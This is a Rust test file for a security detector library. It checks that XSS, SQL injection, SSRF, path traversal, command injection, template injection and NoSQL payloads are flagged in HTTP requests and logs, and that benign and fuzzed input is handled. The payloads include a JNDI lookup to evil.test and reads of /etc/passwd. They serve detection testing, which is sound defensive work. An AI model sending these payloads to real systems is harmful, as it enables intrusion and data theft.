//! What an operator expects of the detectors, through their public door.

use foghorn_detect::{Detectors, Subject, level};
use foghorn_domain::finding::{Finding, Kind};
use foghorn_domain::severity::Severity;
use serde_json::{Map, Value, json};
use std::sync::LazyLock;

static DETECTORS: LazyLock<Detectors> = LazyLock::new(Detectors::builtin);

const THRESHOLD: f32 = 0.3;

fn examine(event_type: &str, payload: &str) -> Vec<Finding> {
    DETECTORS.examine(&Subject { event_type, payload, metadata: &Map::new() })
}

fn kinds(event_type: &str, payload: &str) -> Vec<Kind> {
    examine(event_type, payload).iter().filter(|f| f.score >= THRESHOLD).map(|f| f.kind).collect()
}

#[test]
fn attacks_in_requests_are_found_with_their_kind() {
    let check = |payload, kind| {
        assert!(kinds("http_request", payload).contains(&kind), "{payload}: {:?}", examine("http_request", payload))
    };
    check("GET /search?q=<script>alert('xss')</script>", Kind::Xss);
    check("<script>alert('XSS')</script>", Kind::Xss);
    check("GET /a?q=%253Cimg%20src%3Dx%20onerror%3Dalert(1)%253E HTTP/1.1", Kind::Xss);
    check("GET /login?id=1' OR '1'='1", Kind::Sqli);
    check("GET /item?id=-1 UNION SELECT username, password FROM users--", Kind::Sqli);
    check("POST /login HTTP/1.1\nContent-Type: application/json\n\n{\"user\":\"admin' or 1=1--\"}", Kind::Sqli);
    check("GET /fetch?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1", Kind::Ssrf);
    check("GET /fetch?url=http://localhost:6379/", Kind::Ssrf);
    check("GET /download?file=../../../../etc/passwd HTTP/1.1", Kind::PathTraversal);
    check("GET /..%c0%af..%c0%afetc/passwd HTTP/1.1", Kind::PathTraversal);
    check("GET /ping?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1", Kind::Rce);
    check("GET / HTTP/1.1\nUser-Agent: ${jndi:ldap://evil.test/a}", Kind::Rce);
    check("GET /?name={{7*7}} HTTP/1.1", Kind::Ssti);
    check("GET /?user[$ne]=1 HTTP/1.1", Kind::Nosql);
    check("GET /?q=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg HTTP/1.1", Kind::Xss);
}

#[test]
fn attacks_told_by_log_lines_are_found() {
    let check =
        |payload, kind| assert!(kinds("log", payload).contains(&kind), "{payload}: {:?}", examine("log", payload));
    check("User input: <script>alert('XSS')</script>", Kind::Xss);
    check(
        r#"10.0.0.9 - - [01/Jan/2026:00:00:00 +0000] "GET /?id=1%27%20OR%20%271%27=%271 HTTP/1.1" 200 5 "-" "-""#,
        Kind::Sqli,
    );
    check("2026-01-02 03:04:05 WARN blocked GET /x?file=../../../etc/passwd from 10.0.0.9", Kind::PathTraversal);
}

#[test]
fn harmless_text_stays_below_the_threshold() {
    let check = |event_type, payload| {
        assert_eq!(kinds(event_type, payload), [], "{payload}: {:?}", examine(event_type, payload))
    };
    check(
        "http_request",
        "GET /search?q=select+a+gift+for+dad+or+mum HTTP/1.1\nUser-Agent: Mozilla/5.0 (Windows NT 6.3; ARM; Touch; rv:11.0)",
    );
    check("http_request", "POST /save HTTP/1.1\n\nname=O'Connor&comment=it's 5 > 3 & cheap; more soon");
    check("http_request", "http://10.0.0.5:8080/api/health");
    check("log", "2026-01-02 03:04:05 INFO connected to 10.0.0.5:5432, uid=0");
    check("log", "2026-01-02 03:04:05 DEBUG executing: SELECT a, b FROM t WHERE id = 1 OR id = 2");
    check("log", "2026-01-02 03:04:05 INFO run finished: 0 errors, error rate 0.0%, no error");
    check("log", "INFO error_log=/var/log/app/error.log");
    check("log", "INFO HikariPool-1 - Start completed.");
    check("log", "INFO max_connections = 100, statement timeout = 30s");
    check("metric", "cpu_usage 95");
    check("http_request", "");
    check("", " ");
}

#[test]
fn database_trouble_is_told_from_other_errors() {
    let check = |payload, kind| {
        let found = examine("log", payload);
        assert_eq!(found.first().map(|f| f.kind), Some(kind), "{payload}: {found:?}");
        assert!(found[0].score >= THRESHOLD, "{payload}: {found:?}");
    };
    check("Database connection timeout after 30s", Kind::DbTimeout);
    check("ERROR: Database query timeout", Kind::DbTimeout);
    check("ERROR Database connection timeout after 30000ms", Kind::DbTimeout);
    check("ERROR:  canceling statement due to statement timeout", Kind::DbTimeout);
    check("ERROR 1205 (HY000): Lock wait timeout exceeded; try restarting transaction", Kind::DbTimeout);
    check("FATAL:  sorry, too many clients already", Kind::DbIssue);
    check("psycopg2.OperationalError: could not connect to server: Connection refused", Kind::DbIssue);
    check("ORA-12541: TNS:no listener", Kind::DbIssue);
    check(
        "Transaction (Process ID 52) was deadlocked on lock resources and has been chosen as the deadlock victim",
        Kind::DbIssue,
    );
    check("MongoNetworkError: connection 3 to 10.0.0.1:27017 closed", Kind::DbIssue);
    check("READONLY You can't write against a read only replica.", Kind::DbIssue);
    check("ERROR:  column \"a\" does not exist", Kind::Error);
}

#[test]
fn a_database_timeout_at_error_level_is_an_error_too() {
    let found = kinds("log", "ERROR Database connection timeout after 30000ms");
    assert_eq!(found, [Kind::DbTimeout, Kind::Error]);
}

#[test]
fn errors_are_found_by_level_status_crash_and_exit() {
    let check =
        |payload| assert!(kinds("log", payload).contains(&Kind::Error), "{payload}: {:?}", examine("log", payload));
    check("[Sun Dec 04 04:47:44 2005] [error] mod_jk child workerEnv in error state 6");
    check("E0102 15:04:05.000000 1 controller.go:114] sync failed");
    check("E/AndroidRuntime: main died");
    check(r#"10.0.0.9 - - [01/Jan/2026:00:00:00 +0000] "GET / HTTP/1.1" 503 5 "-" "-""#);
    check("java.lang.NullPointerException: x\n\tat a.b.C.d(C.java:5)");
    check("thread 'main' panicked at src/main.rs:1:1");
    check("Out of memory: Killed process 123 (java)");
    check("worker exited with code 137");
    check("<11>Jan  1 00:00:00 host app: gone");
}

#[test]
fn evidence_names_the_rule_the_text_and_the_place() {
    let found = examine("http_request", "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1");
    let evidence = &found[0].evidence[0];
    assert_eq!((evidence.rule.as_str(), evidence.at.as_str()), ("xss.script_tag", "query.q"));
    assert_eq!(evidence.text, "<script");
}

#[test]
fn metadata_speaks_too() {
    let examine = |event_type, payload, metadata: Value| {
        let metadata = metadata.as_object().cloned().unwrap_or_default();
        let subject = Subject { event_type, payload, metadata: &metadata };
        (DETECTORS.examine(&subject), level::severity_of(&subject))
    };
    let (found, _) = examine("http_request", "GET /", json!({"headers": {"User-Agent": "<script>alert(1)</script>"}}));
    assert_eq!(found[0].kind, Kind::Xss);
    let (found, severity) = examine("log", "payment gone", json!({"level": "fatal"}));
    assert_eq!((found[0].kind, severity.map(|(s, _)| s)), (Kind::Error, Some(Severity::Critical)));
}

#[test]
fn hostile_bytes_neither_panic_nor_leave_the_range() {
    // A small generator of its own keeps the texts the same on every run.
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = move || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state
    };
    let pieces = [
        "%",
        "%u",
        "%c0%ae",
        "&#",
        "&lt",
        "\\u{",
        "\\x",
        "/*",
        "*/",
        "'",
        "\"",
        "<",
        "${",
        "$(",
        "{{",
        "../",
        "GET /",
        " HTTP/1.1\n",
        "?",
        "=",
        "&",
        "union select",
        "é",
        "\u{560a}",
        "\0",
        "{\"a\":",
        "[[",
        "; ",
        "\n\n",
        "Content-Type: multipart/form-data; boundary=b\n",
        "--b\n",
        "\u{fffd}",
        "<!--",
        "0x",
        "base64,",
        "AAAA",
        "ERROR ",
        "timeout",
        "database ",
        "ms",
        "99999999999999999999",
        "\tat ",
    ];
    for round in 0..3_000 {
        let mut text = String::new();
        for _ in 0..next() % 40 {
            text.push_str(pieces[(next() % pieces.len() as u64) as usize]);
        }
        for event_type in ["", "log", "http_request"] {
            for finding in examine(event_type, &text) {
                assert!(
                    (0.0..=1.0).contains(&finding.score) && !finding.evidence.is_empty(),
                    "round {round}: {text:?}"
                );
            }
        }
    }
}

#[test]
fn what_mysql_notes_is_no_error_and_what_it_calls_one_is() {
    let noted = [
        "2026-01-02T03:04:05.123456Z 12 [Note] Aborted connection 12 to db: 'shop' user: 'app' host: '10.0.0.7' (Got an error reading communication packets)",
        "2026-01-02T03:04:05.123456Z 13 [Note] [MY-010914] [Server] Aborted connection 13 to db: 'shop' user: 'app' host: '10.0.0.7' (Got timeout reading communication packets).",
        "2026-01-02 03:04:05 14 [Note] InnoDB: Cannot open '/var/lib/mysql/ib_buffer_pool' for reading: No such file or directory",
        "2026-01-02T03:04:05.123456Z 0 [System] [MY-013172] [Server] Received SHUTDOWN from user root. Shutting down mysqld (Version: 8.0.36).",
        "2026-01-02T03:04:05.123456Z 0 [System] [MY-010229] [Server] Starting XA crash recovery...",
    ];
    for line in noted {
        assert!(!kinds("log", line).contains(&Kind::Error), "{line}: {:?}", examine("log", line));
    }
    let error = "2026-01-02T03:04:05.123456Z 0 [ERROR] [MY-012592] [InnoDB] Operating system error number 28 in a file operation.";
    assert_ne!(kinds("log", error), [], "{error}");
}

#[test]
fn a_line_of_a_megabyte_is_examined() {
    for piece in [
        "a",
        "select ",
        "%25",
        "&#",
        "/*",
        "../",
        "<",
        "'or'1",
        "{\"a\":[",
        "GET /?a=b&",
        "\u{1f600}",
        "on=",
        "\\u{",
        "database timeout ",
    ] {
        let text = piece.repeat(1_000_000 / piece.len());
        for event_type in ["", "log", "http_request"] {
            examine(event_type, &text);
        }
    }
}
